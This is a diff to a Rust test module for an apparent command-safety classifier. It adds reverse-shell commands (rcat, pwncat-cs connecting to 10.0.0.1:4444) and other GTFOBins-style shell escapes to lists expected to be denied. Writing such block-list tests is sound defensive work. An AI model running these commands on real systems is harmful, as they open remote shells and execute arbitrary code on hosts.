@@ -2207,6 +2207,8 @@ mod gtfobins_gaps {
                 "aria2c --on-download-error=/tmp/x.sh http://x",
                 "npm exec -c sh",
                 "tar -I 'sh -c id' -cf x src",
+                "rcat connect -s bash 10.0.0.1 4444",
+                "pwncat-cs -e /bin/sh 10.0.0.1:4444",
             ],
             Decision::Deny,
         );
@@ -2238,6 +2240,8 @@ mod gtfobins_gaps {
                 "tar -I pigz -xf x.tgz",
                 "find . -name '*.log' -exec sh -c 'gzip \"$1\"' _ {} \\;",
                 "GIT_SSH_COMMAND='ssh -i ~/.ssh/deploy' git pull",
+                "iperf3 -c 10.0.0.1 -p 5201",
+                "ssh -p 2222 10.0.0.1 bash",
             ],
             Decision::Deny,
         );
